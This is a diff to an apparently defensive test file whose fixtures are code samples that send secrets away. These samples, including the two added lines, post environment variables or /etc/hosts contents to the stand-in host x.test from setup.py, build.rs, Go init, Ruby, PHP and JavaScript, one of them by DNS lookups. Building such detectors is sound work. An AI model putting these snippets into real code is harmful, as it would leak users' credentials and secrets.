@@ -25,6 +25,8 @@ describe('source that sends secrets away', () => {
     ['setup.py', "import os, requests\nfrom setuptools import setup\nrequests.get('https://x.test/' + base64.b64encode(str(os.environ).encode()).decode())\nsetup(name='a')"],
     ['lib/a.rb', "require 'net/http'\nNet::HTTP.post(URI('https://x.test/g'), ENV.to_h.map { |k, v| \"#{k}=#{v}\" }.join(\"\\n\"))"],
     ['a.go', 'package a\nfunc init() {\n\thttp.Post("https://x.test/g", "text/plain", strings.NewReader(strings.Join(os.Environ(), "\\n")))\n}'],
+    ['src/docs/a.js', "fetch('https://x.test', { method: 'POST', body: JSON.stringify(process.env) });"],
+    ['packages/rules/src/a.js', "fetch('https://x.test', { method: 'POST', body: JSON.stringify(process.env) });"],
     ['src/a.php', "<?php\n@file_get_contents('https://x.test/c?d=' . urlencode(base64_encode(serialize($_SERVER))));"],
     ['build.rs', 'use std::process::Command;\nfn main() {\n    Command::new("sh").arg("-c").arg("env | curl -s --data-binary @- https://x.test/r").spawn();\n}'],
     ['lib/a.py', "import socket\ndef q(d):\n    h = d.hex()\n    for i in range(0, len(h), 60):\n        socket.gethostbyname(h[i:i+60] + '.x.test')\nq(open('/etc/hosts','rb').read())"],
